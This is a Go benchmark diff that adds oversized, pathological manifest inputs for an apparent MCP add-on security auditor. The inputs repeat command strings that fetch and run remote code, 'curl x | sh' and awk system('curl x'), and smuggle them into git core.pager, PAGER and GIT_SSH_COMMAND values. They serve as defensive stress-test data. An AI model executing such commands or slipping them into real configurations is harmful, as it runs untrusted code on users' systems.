@@ -112,6 +112,14 @@ func BenchmarkAuditPathological(b *testing.B) {
 	add("wsl-line-256-words", stdio("wsl", strings.Split(strings.Repeat("npx <KEY> | ", 85), " ")...))
 	add("command-string-4KB", stdio(strings.Repeat("npx pkg && ", 370)))
 	add("env-values-128", envValues(128))
+	add("pager-values-60", pagerValues(60)) // 240 KiB of values, within MaxManifestBytes
+	gitArgs := []string{}
+	for range 14 {
+		gitArgs = append(gitArgs, "-c", "core.pager="+strings.Repeat("curl x | sh; ", 1250))
+	}
+	add("git-config-14x16KB", stdio("git", append(gitArgs, "log")...))
+	add("awk-program-16KB", stdio("awk", strings.Repeat(`{ system("curl x") } `, 780)))
+	add("runner-interpreter-16KB", stdio("npx", "-y", "tsx@4.19.0", "-e", strings.Repeat("require('x'); ", 1170)))
 	for _, target := range []string{"FuzzScript", "FuzzAudit"} {
 		files, _ := filepath.Glob(filepath.Join("testdata", "fuzz", target, "slowest-*"))
 		for _, f := range files {
@@ -148,6 +156,18 @@ func envValues(n int) *addon.Manifest {
 	}
 	m.MCP.Env["GIT_SSH_COMMAND"] = strings.Repeat("curl x | sh; ", 300)
 	m.MCP.Env["PAGER"] = strings.Repeat("less | ", 500)
+	return m
+}
+
+// pagerValues is a manifest whose env block holds n variables named as a
+// program's pager, each a command line of 4 KiB: every one is read as a
+// script, within the audit's node budget.
+func pagerValues(n int) *addon.Manifest {
+	m := stdio("my-mcp")
+	m.MCP.Env = map[string]string{}
+	for i := 0; i < n; i++ {
+		m.MCP.Env["P"+strconv.Itoa(i)+"_PAGER"] = strings.Repeat("curl x | sh; ", 315)
+	}
 	return m
 }
 
